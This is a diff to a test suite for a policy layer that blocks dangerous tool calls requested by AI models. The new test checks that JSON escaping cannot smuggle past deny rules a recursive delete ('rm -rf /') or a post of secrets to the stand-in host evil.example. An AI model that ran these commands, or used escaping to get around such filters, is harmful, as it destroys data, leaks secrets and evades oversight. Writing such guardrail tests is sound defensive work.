@@ -80,6 +80,43 @@ describe('tool calls a model asks for', () => {
     expect(events[0]).toMatchObject({ tool: 'delete_repo', blocked: true });
   });
 
+  it('judges the arguments as the tool reads them: a JSON escape hides no text and no host', async () => {
+    await rig.addPolicy({
+      name: 'no-wipes-no-evil',
+      priority: 450,
+      rules: [
+        {
+          action: 'tool:run_shell',
+          effect: 'deny',
+          conditions: [{ field: 'tool_args', operator: 'matches', value: 'rm\\s+-rf' }],
+        },
+        {
+          action: 'tool:http_post',
+          effect: 'deny',
+          conditions: [{ field: 'tool_hosts', operator: 'in', value: ['evil.example'] }],
+        },
+      ],
+    });
+    for (const [tool, args] of [
+      ['run_shell', '{"cmd":"rm \\u002drf /"}'],
+      ['http_post', '{"url":"https:\\/\\/evil.example\\/c","body":"secrets"}'],
+    ] as const) {
+      const error = await failure(() =>
+        openAiClient(rig.agent, {
+          'X-Svc-Execution-Id': `exec-escaped-${tool}`,
+          'x-sim-tool-call': tool,
+          'x-sim-tool-args': args,
+        }).chat.completions.create({
+          model: 'gpt-4o-mini',
+          max_tokens: 5,
+          messages: [{ role: 'user', content: 'go' }],
+        }),
+      );
+      expect(error, args).toBeInstanceOf(APIError);
+      expect((error as APIError).code, args).toBe('SVC-POL-2001');
+    }
+  });
+
   it('cuts an Anthropic stream whose tool_use block names a denied tool', async () => {
     const client = anthropicClient(rig.agent, {
       'X-Svc-Execution-Id': 'exec-tool-stream',
